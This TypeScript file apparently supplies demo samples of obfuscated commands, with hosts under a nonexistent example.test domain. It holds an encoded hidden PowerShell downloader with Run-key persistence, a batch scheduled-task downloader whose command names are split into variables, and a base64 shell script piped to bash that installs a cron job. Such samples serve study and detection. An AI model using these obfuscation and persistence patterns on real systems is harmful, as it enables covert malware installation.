export interface Sample {
  name: string;
  text: () => string;
}

const encode = (bytes: readonly number[]) => btoa(String.fromCharCode(...bytes));

/** As powershell.exe -EncodedCommand wants it: UTF-16, in base64. */
export const encodedCommand = (script: string) => encode([...script].flatMap((letter) => [letter.charCodeAt(0) & 0xff, letter.charCodeAt(0) >> 8]));

const downloader = `$a = 'http://updates' + '.example.test/'
$b = "$env:TEMP\\notes.txt"
(New-Object Net.WebClient).DownloadFile(($a + 'nolist'.Replace('list', 'tes') + '.txt'), $b)
Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'Notes' -Value "notepad.exe $b"`;

const task = `@echo off
set "a=task"
set "b=sch%a%s"
set "letters=tlruc"
set "c=%letters:~4,1%%letters:~3,1%%letters:~2,1%%letters:~1,1%"
%b% /create /tn "Daily report" /sc daily /st 09:00 /tr "cmd /c %c% -s -o %TEMP%\\report.txt http://reports.example.test/daily"
if exist "%TEMP%\\report.txt" del "%TEMP%\\report.txt"`;

const installer = `curl -s http://setup.example.test/tool.sh -o /tmp/tool.sh
chmod +x /tmp/tool.sh
(crontab -l; echo "0 * * * * /tmp/tool.sh") | crontab -`;

/** Harmless, and written for this page: hosts under example.test exist nowhere. */
export const samples: readonly Sample[] = [
  { name: 'PowerShell, encoded', text: () => `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${encodedCommand(downloader)}` },
  { name: 'Batch, cut into variables', text: () => task },
  { name: 'Shell, in base64', text: () => `#!/bin/sh\nx="${btoa(installer)}"\necho "$x" | base64 -d | bash` },
];
